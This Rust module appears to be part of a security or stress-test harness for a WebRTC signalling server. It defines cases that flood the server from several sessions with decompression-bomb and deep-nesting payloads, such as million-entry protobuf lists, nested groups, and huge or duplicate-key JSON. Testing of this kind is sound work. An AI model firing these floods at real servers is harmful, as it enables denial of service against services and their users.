//! Lists of a million: small on the wire, large once decoded; and nesting without end.

use super::{Case, case};
use crate::proto_bytes::{field, repeated};
use crate::stage::{Ask, Stage};
use crate::ws::{DEFLATE, Ws, binary, packed, text};

/// A signal message may have 2 MiB.
const MESSAGE_MAX: usize = (2 << 20) - 64;
/// Messages that one attack sends at most.
const MESSAGES: u64 = 200;

pub(super) const CASES: &[Case] = &[
    case(
        "list-sids",
        "UpdateSubscription with a million empty SIDs, compressed, six sessions",
        |stage| send(stage, 6, true, &field(6, &repeated(1, b"", MESSAGE_MAX))),
    ),
    case(
        "list-sids-plain",
        "the same without compression, one session",
        |stage| send(stage, 1, false, &field(6, &repeated(1, b"", MESSAGE_MAX))),
    ),
    case(
        "list-sids-small",
        "20,000 empty SIDs a message, four sessions at full speed",
        |stage| send(stage, 4, false, &field(6, &repeated(1, b"", 40_000))),
    ),
    case(
        "list-participants",
        "UpdateSubscription with a million participants without tracks",
        |stage| send(stage, 3, true, &field(6, &repeated(3, b"", MESSAGE_MAX))),
    ),
    case(
        "list-participant-tracks",
        "one participant with a million empty SIDs",
        |stage| {
            let one = field(3, &repeated(2, b"", MESSAGE_MAX - 64));
            send(stage, 3, true, &field(6, &one))
        },
    ),
    case(
        "list-sync-tracks",
        "SyncState with a million published tracks",
        |stage| send(stage, 3, true, &field(12, &repeated(3, b"", MESSAGE_MAX))),
    ),
    case(
        "list-sync-channels",
        "SyncState with a million data channels",
        |stage| send(stage, 3, true, &field(12, &repeated(4, b"", MESSAGE_MAX))),
    ),
    case(
        "list-sync-mixed",
        "SyncState with lists inside lists and disabled SIDs",
        |stage| {
            let part = MESSAGE_MAX / 4 - 64;
            let mut state = field(2, &repeated(1, b"", part));
            state.extend(repeated(6, b"", part));
            state.extend(repeated(7, b"", part));
            state.extend(field(9, &repeated(1, b"", part)));
            send(stage, 3, true, &field(12, &state))
        },
    ),
    case(
        "list-permissions",
        "SubscriptionPermission with a million empty permissions",
        |stage| send(stage, 3, true, &field(11, &repeated(2, b"", MESSAGE_MAX))),
    ),
    case(
        "list-permission-sids",
        "one permission with a million empty SIDs",
        |stage| {
            let one = field(2, &repeated(3, b"", MESSAGE_MAX - 64));
            send(stage, 3, true, &field(11, &one))
        },
    ),
    case(
        "list-unknown",
        "messages of 2 MiB that say nothing and are no fault, sixteen sessions",
        |stage| send_many(stage, 16, 5000, &field(999, &vec![0; MESSAGE_MAX])),
    ),
    case("list-layers", "AddTrack with a million layers", |stage| {
        let mut track = field(1, b"cid");
        track.extend(repeated(9, b"", MESSAGE_MAX - 16));
        send(stage, 3, true, &field(4, &track))
    }),
    case(
        "list-codecs",
        "AddTrack with a million simulcast codecs",
        |stage| {
            let mut track = field(1, b"cid");
            track.extend(repeated(10, b"", MESSAGE_MAX - 16));
            send(stage, 3, true, &field(4, &track))
        },
    ),
    case(
        "list-attributes",
        "UpdateMetadata with 200,000 attributes",
        |stage| {
            let mut attributes = Vec::new();
            for index in 0..130_000u32 {
                let mut entry = field(1, format!("{index:06}").as_bytes());
                entry.extend(field(2, b"v"));
                attributes.extend(field(3, &entry));
            }
            send(stage, 3, true, &field(15, &attributes))
        },
    ),
    case(
        "list-data-subscription",
        "UpdateDataSubscription with a million updates",
        |stage| send(stage, 3, true, &field(21, &repeated(1, b"", MESSAGE_MAX))),
    ),
    case(
        "list-track-settings",
        "UpdateTrackSettings with a million empty SIDs",
        |stage| send(stage, 3, true, &field(7, &repeated(1, b"", MESSAGE_MAX))),
    ),
    case(
        "list-audio-features",
        "UpdateLocalAudioTrack with two million features",
        |stage| {
            let features = field(2, &vec![1; MESSAGE_MAX - 16]);
            send(stage, 3, true, &field(16 + 1, &features))
        },
    ),
    case(
        "list-offer-map",
        "an offer that maps 200,000 sections to tracks",
        |stage| {
            let mut offer = field(1, b"offer");
            for index in 0..130_000u32 {
                let mut entry = field(1, format!("{index:06}").as_bytes());
                entry.extend(field(2, b"T"));
                offer.extend(field(4, &entry));
            }
            send(stage, 3, true, &field(1, &offer))
        },
    ),
    case(
        "list-repeated-message",
        "half a million messages merged into one request",
        |stage| send(stage, 3, true, &repeated(6, &[0x0A, 0], MESSAGE_MAX)),
    ),
    case(
        "nest-groups",
        "a million protobuf groups inside each other",
        |stage| send(stage, 3, true, &vec![0xF3; MESSAGE_MAX]),
    ),
    case("json-sids", "the list of SIDs as JSON", |stage| {
        let sids = vec!["\"\""; 600_000].join(",");
        speak(
            stage,
            3,
            false,
            &format!("{{\"subscription\":{{\"trackSids\":[{sids}]}}}}"),
        )
    }),
    case(
        "json-sids-packed",
        "the list of SIDs as compressed JSON",
        |stage| {
            let sids = vec!["\"\""; 600_000].join(",");
            speak(
                stage,
                6,
                true,
                &format!("{{\"subscription\":{{\"trackSids\":[{sids}]}}}}"),
            )
        },
    ),
    case(
        "json-objects",
        "a list of 600,000 empty participants as JSON",
        |stage| {
            let list = vec!["{}"; 600_000].join(",");
            speak(
                stage,
                3,
                true,
                &format!("{{\"subscription\":{{\"participantTracks\":[{list}]}}}}"),
            )
        },
    ),
    case(
        "json-nested",
        "two million JSON arrays inside each other",
        |stage| {
            speak(
                stage,
                3,
                true,
                &format!("{{\"unknown\":{}", "[".repeat(MESSAGE_MAX - 16)),
            )
        },
    ),
    case("json-duplicates", "the same JSON key 100,000 times", |stage| {
        let keys = vec!["\"trackSids\":[]"; 100_000].join(",");
        speak(stage, 3, true, &format!("{{\"subscription\":{{{keys}}}}}"))
    }),
    case(
        "json-unknown",
        "an unknown JSON key with a million numbers",
        |stage| {
            speak(
                stage,
                3,
                true,
                &format!("{{\"unknown\":[{}0]}}", "0,".repeat(900_000)),
            )
        },
    ),
];

/// Sessions of one token: `publish` makes a second one of the same participant.
fn sessions(stage: &Stage<'_>, count: usize, deflate: bool) -> anyhow::Result<Vec<Ws>> {
    let token = crate::token::join("mallory", &stage.room);
    let mut sessions = Vec::new();
    for index in 0..count {
        let query = if index == 0 {
            String::new()
        } else {
            format!("&publish={index}")
        };
        let ask = Ask {
            query: &query,
            headers: if deflate { DEFLATE } else { "" },
            ..Ask::default()
        };
        sessions.push(stage.enter(&token, ask)?);
    }
    Ok(sessions)
}

/// Sends the same binary message from several sessions.
fn send(stage: &mut Stage<'_>, count: usize, deflate: bool, message: &[u8]) -> anyhow::Result<()> {
    let attackers = sessions(stage, count, deflate)?;
    let frame = if deflate {
        packed(2, message)
    } else {
        binary(message)
    };
    stage.flood(attackers, &[frame], MESSAGES, false);
    Ok(())
}

/// Compressed, as many messages as may be.
fn send_many(stage: &mut Stage<'_>, count: usize, messages: u64, message: &[u8]) -> anyhow::Result<()> {
    let attackers = sessions(stage, count, true)?;
    stage.flood(attackers, &[packed(2, message)], messages, false);
    Ok(())
}

/// The same with JSON.
fn speak(stage: &mut Stage<'_>, count: usize, deflate: bool, message: &str) -> anyhow::Result<()> {
    let attackers = sessions(stage, count, deflate)?;
    let frame = if deflate {
        packed(1, message.as_bytes())
    } else {
        text(message)
    };
    stage.flood(attackers, &[frame], MESSAGES, false);
    Ok(())
}
